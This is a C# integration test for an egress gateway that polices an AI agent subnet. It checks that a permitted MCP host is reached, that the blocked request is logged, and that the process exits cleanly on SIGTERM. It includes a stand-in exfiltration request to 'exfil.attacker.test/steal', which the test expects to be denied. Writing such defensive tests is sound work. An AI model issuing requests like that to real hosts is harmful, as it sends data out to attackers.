using System.Diagnostics;
using System.Net;
using System.Text;
using Corral.Cli;
using Corral.Gateway.Tests.Support;

namespace Corral.Gateway.Tests;

/// <summary>
/// <c>corral gateway</c> as a real process: the Foundry pack with the agent subnet on loopback, a permit and a deny
/// through it, the flow log on disk, and a clean exit 0 after SIGTERM.
/// </summary>
public sealed class CliProcessTests
{
    [Fact]
    public async Task Corral_gateway_enforces_the_pack_logs_flows_and_exits_0_on_sigterm()
    {
        await using var upstream = TestUpstream.Start(443, "mcp.contoso.com", "exfil.attacker.test");
        var folder = Directory.CreateTempSubdirectory("corral-cli-gw-").FullName;
        Process? gateway = null;
        try
        {
            var policy = Path.Combine(folder, "p.yaml");
            Assert.Equal(0, CorralCommand.Run(["init", "--template", "azure-foundry", "-o", policy, "--agent-subnet", "127.0.0.0/8"], new StringWriter(), new StringWriter()));
            File.WriteAllText(Path.Combine(folder, "hosts"), $"{upstream.EndPoint.Address} mcp.contoso.com exfil.attacker.test\n");
            var port = GatewayProcess.FreePort();
            var corral = Path.Combine(AppContext.BaseDirectory, "corral.dll");
            var info = new ProcessStartInfo("dotnet") { RedirectStandardError = true, RedirectStandardOutput = true, UseShellExecute = false, WorkingDirectory = folder };
            foreach (var a in new[] { corral, "gateway", policy, "--listen", $"127.0.0.1:{port}", "--hosts", "hosts", "--flow-log", "flows.jsonl", "--public-standin", "127.0.0.0/8" })
                info.ArgumentList.Add(a);
            gateway = Process.Start(info)!;
            var stderr = new StringBuilder();
            gateway.ErrorDataReceived += (_, e) => { lock (stderr) stderr.AppendLine(e.Data); };
            gateway.OutputDataReceived += (_, e) => { lock (stderr) stderr.AppendLine(e.Data); };
            gateway.BeginErrorReadLine();
            gateway.BeginOutputReadLine();
            await GatewayProcess.WaitForPortAsync(port, gateway, () => { lock (stderr) return stderr.ToString(); });

            using (var client = new HttpClient(new SocketsHttpHandler
                   {
                       Proxy = new WebProxy($"http://127.0.0.1:{port}"),
                       SslOptions = { RemoteCertificateValidationCallback = (_, c, _, _) => c?.GetCertHashString() == upstream.Certificate!.GetCertHashString() },
                   }) { Timeout = TimeSpan.FromSeconds(30) })
            {
                Assert.Contains("GET /ok", await client.GetStringAsync("https://mcp.contoso.com/ok"));
                var denied = await Assert.ThrowsAsync<HttpRequestException>(() => client.GetStringAsync("https://exfil.attacker.test/steal"));
                Assert.Equal(HttpStatusCode.Forbidden, denied.StatusCode);
            }

            Assert.Equal(0, (await CommandLine.RunAsync("kill", "-TERM", gateway.Id.ToString())).ExitCode);
            using var wait = new CancellationTokenSource(TimeSpan.FromSeconds(60));
            await gateway.WaitForExitAsync(wait.Token);
            Assert.True(gateway.ExitCode == 0, $"exit {gateway.ExitCode}: {stderr}");

            var log = File.ReadAllLines(Path.Combine(folder, "flows.jsonl"));
            Assert.Contains(log, l => l.Contains("\"host\":\"mcp.contoso.com\"") && l.Contains("\"action\":\"permit\"") && l.Contains("\"rule\":\"allow-tool-calls\""));
            Assert.Contains(log, l => l.Contains("\"host\":\"exfil.attacker.test\"") && l.Contains("\"action\":\"deny\"") && l.Contains("\"rule\":\"default-deny-internet\""));
            Assert.Equal(2, log.Count(l => l.Contains("\"event\":\"close\"")));
            Assert.Single(upstream.Requests);
            lock (stderr) Assert.Contains("--public-standin", stderr.ToString()); // the lab-only setting announces itself
        }
        finally
        {
            if (gateway is { HasExited: false }) { gateway.Kill(); await gateway.WaitForExitAsync(); }
            gateway?.Dispose();
            Directory.Delete(folder, recursive: true);
        }
    }
}
